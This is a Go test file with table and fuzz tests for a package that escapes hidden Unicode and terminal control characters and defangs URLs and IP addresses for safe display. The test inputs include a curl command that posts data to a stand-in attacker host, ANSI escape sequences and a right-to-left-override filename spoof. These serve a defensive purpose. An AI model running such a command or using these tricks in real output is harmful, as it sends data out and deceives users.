package inert

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	for given, want := range map[string]string{
		"":                          "",
		"plain, with ümlaut and 漢字": "plain, with ümlaut and 漢字",
		`C:\x41`:                    `C:\x41`,
		"a\nb\r\tc":                 `a\nb\r\tc`,
		"\x1b[31mred\x1b]0;t\a":     `\x1b[31mred\x1b]0;t\x07`,
		"\u009b31m\x7f":             `\u009b31m\x7f`,
		"\x9b31m\xff":               `\x9b31m\xff`,
		"main\u202egnp.exe":         `main\u202egnp.exe`,
		"a\u200bb\u2066c\u00add":    `a\u200bb\u2066c\u00add`,
		"\uFEFFx\u2028y":            `\ufeffx\u2028y`,
		"no\u00a0break\u2800\u3164": `no\u00a0break\u2800\u3164`,
		"tag\U000E0041\uFE0F":       `tag\U000e0041\ufe0f`,
		"real \uFFFD":               "real \uFFFD",
	} {
		if got := Escape(given); got != want {
			t.Errorf("Escape(%q) = %q, want %q", given, got, want)
		}
	}
}

func FuzzEscape(f *testing.F) {
	f.Add("\x1b[2J\u202e\xff\U000E0041")
	f.Fuzz(func(t *testing.T, s string) {
		got := Escape(s)
		if !utf8.ValidString(got) || strings.IndexFunc(got, Hidden) >= 0 {
			t.Errorf("Escape(%q) = %q lets a Hidden character through", s, got)
		}
		if again := Escape(got); again != got {
			t.Errorf("escaped twice: %q, then %q", got, again)
		}
	})
}

func TestDefang(t *testing.T) {
	for given, want := range map[string]string{
		"":                                     "",
		"evil.example.invalid":                 "evil.example[.]invalid",
		"evil.example.invalid.":                "evil.example[.]invalid.",
		"evil.example.invalid:8443":            "evil.example[.]invalid:8443",
		"evil.example.invalid/a.b/c":           "evil.example[.]invalid/a.b/c",
		"evil.example.invalid/a//b":            "evil.example[.]invalid/a//b",
		"collector@evil.example.invalid":       "collector@evil.example[.]invalid",
		"192.0.2.7":                            "192.0.2[.]7",
		"192.0.2.7:80":                         "192.0.2[.]7:80",
		"2001:db8::7":                          "2001:db8:[:]7",
		"http://192.0.2.7/x":                   "hxxp://192.0.2[.]7/x",
		"https://evil.example.invalid":         "hxxps://evil.example[.]invalid",
		"HTTPS://user:p@evil.example.invalid/": "hxxpS://user:p@evil.example[.]invalid/",
		"https://evil.example.invalid?u=http://b.example.invalid/": "hxxps://evil.example[.]invalid?u=hxxp://b.example[.]invalid/",
		"http://http://evil.example.invalid":                       "hxxp://hxxp://evil.example[.]invalid",
		"//evil.example.invalid/x":                                 "//evil.example[.]invalid/x",
		"ftp://evil.example.invalid/":                              "ftp://evil.example[.]invalid/",
		"curl -d @- https://evil.example.invalid/a.txt done.":      "curl -d @- hxxps://evil.example[.]invalid/a.txt done.",
		"a[.]b.example.invalid":                                    "a[.]b.example[.]invalid",
		"hxxps://evil.example[.]invalid":                           "hxxps://evil.example[.]invalid",
		"octo/demo":                                                "octo/demo",
		"localhost":                                                "localhost",
		".github/workflows/x.yml":                                  ".github/workflows/x.yml",
		"a sentence. with a dot":                                   "a sentence. with a dot",
	} {
		if got := Defang(given); got != want {
			t.Errorf("Defang(%q) = %q, want %q", given, got, want)
		}
	}
}

func FuzzDefang(f *testing.F) {
	for _, s := range []string{"https://a.example.invalid/x", "192.0.2.1", "::ffff:192.0.2.1", "a[.]b.c", "//a.@b.:1", "::%0:00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Defang(s)
		if again := Defang(got); again != got {
			t.Errorf("defanged twice: %q, %q, %q", s, got, again)
		}
		if strings.Contains(strings.ToLower(got), "http://") || strings.Contains(strings.ToLower(got), "https://") {
			t.Errorf("Defang(%q) = %q", s, got)
		}
		if strings.ReplaceAll(strings.ReplaceAll(got, "[.]", "."), "[:]", ":") == got && len(got) > len(s) {
			t.Errorf("Defang(%q) = %q adds more than brackets", s, got)
		}
	})
}
